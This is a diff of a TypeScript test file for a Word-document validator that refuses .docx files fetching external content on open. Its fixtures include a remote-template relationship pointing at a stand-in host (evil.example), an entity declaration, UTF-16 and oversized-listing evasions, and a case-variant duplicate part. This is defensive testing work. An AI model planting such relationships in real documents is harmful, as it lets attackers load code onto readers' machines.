@@ -1,16 +1,13 @@
 import { describe, expect, test } from 'vitest'
 import { docxWith } from '../../../test/sample-files.ts'
-import { asha, send, serveForm } from '../../../test/upload-form.ts'
-
-serveForm()
+import { isPlainDocument } from './plain-document.ts'
 
 describe('a Word file', () => {
   const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
   const listing = (relations: string) =>
     `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relations}</Relationships>`
-  const sendWith = async (text: string | Uint8Array, name = 'word/_rels/settings.xml.rels') => {
-    const word = docxWith({ [name]: typeof text === 'string' ? Buffer.from(text) : text })
-    return (await send(asha, ['resume', word, 'cv.docx'])).status
+  const isPlainWith = (text: string | Uint8Array, name = 'word/_rels/settings.xml.rels') => {
+    return isPlainDocument(docxWith({ [name]: typeof text === 'string' ? Buffer.from(text) : text }))
   }
   const relation = (type: string, rest = 'TargetMode="External"') =>
     `<Relationship Id="rId1" Type="${office}/${type}" Target="https://evil.example/t.dotm" ${rest}/>`
@@ -30,15 +27,25 @@ describe('a Word file', () => {
     ['an entity', `<!DOCTYPE x [<!ENTITY e "External">]>${listing('')}`],
     ['UTF-16', Buffer.from(listing(relation('attachedTemplate')), 'utf16le')],
     ['too long a list', listing(' '.repeat(2_100_000))],
-  ])('that fetches something as it is opened is refused: %s', async (_, text) => {
-    expect(await sendWith(text)).toBe(415)
-    expect(await sendWith(text, 'word/_rels/document.xml.rels')).toBe(415)
-    expect(await sendWith(text, 'word/_rels/SETTINGS.XML.RELS')).toBe(415)
+  ])('that fetches something as it is opened is refused: %s', (_, text) => {
+    expect(isPlainWith(text)).toBe(false)
+    expect(isPlainWith(text, 'word/_rels/document.xml.rels')).toBe(false)
+    expect(isPlainWith(text, 'word/_rels/SETTINGS.XML.RELS')).toBe(false)
   })
 
-  test('with links to press and parts of its own is taken', async () => {
+  test('that has a part twice is refused: each program takes another of them', () => {
+    const own = listing(relation('hyperlink'))
+    const twice = Buffer.from(
+      docxWith({ 'word/_rels/a.xml.rels': Buffer.from(own), 'word/_rels/b.xml.rels': Buffer.from(own) }),
+    )
+    expect(isPlainDocument(twice)).toBe(true)
+    const same = twice.toString('latin1').replaceAll('word/_rels/b.xml.rels', 'word/_rels/A.xml.rels')
+    expect(isPlainDocument(Buffer.from(same, 'latin1'))).toBe(false)
+  })
+
+  test('with links to press and parts of its own is taken', () => {
     const own = `<Relationship Id="rId2" Type="${office}/styles" Target="styles.xml"/>`
     const named = relation('image', 'TargetMode="Internal"').replace(/https:[^"]*/, 'media/image1.png')
-    expect(await sendWith(`\uFEFF${listing(own + named + relation('hyperlink'))}`)).toBe(200)
+    expect(isPlainWith(`\uFEFF${listing(own + named + relation('hyperlink'))}`)).toBe(true)
   })
 })
